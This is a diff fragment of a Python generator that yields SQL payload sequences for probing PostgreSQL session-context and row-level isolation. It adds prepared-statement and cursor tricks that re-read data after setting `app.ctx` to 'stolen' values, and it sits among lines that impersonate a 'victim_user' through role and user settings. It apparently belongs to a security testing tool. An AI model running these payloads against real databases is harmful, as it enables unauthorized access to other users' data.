@@ -160,6 +160,11 @@ def _contexts(known: Known) -> Iterator[Payload]:
             for local in ("true", "false"):
                 yield Payload(f"context: {name}", (f"SELECT set_config('app.ctx', '{text}', {local})", look), table)
             yield Payload(f"context set: {name}", (f"SET app.ctx = '{text}'", look), table)
+        for name, guess in known.stolen.items():
+            text = guess.replace("'", "''")
+            other = f"SELECT set_config('app.ctx', '{text}', true)"
+            yield Payload(f"prepared: {name}", (f"PREPARE p AS {look}", "EXECUTE p", other, "EXECUTE p"), table)
+            yield Payload(f"cursor: {name}", (f"DECLARE c CURSOR FOR {look}", other, "FETCH ALL FROM c"), table)
         for setting in ("app.user", "app.user_id", "app.role", "role", "session_authorization", "app.current_user"):
             change = f"SELECT set_config('{setting}', '{known.victim_user}', true)"
             yield Payload(f"setting {setting}", (change, look), table)
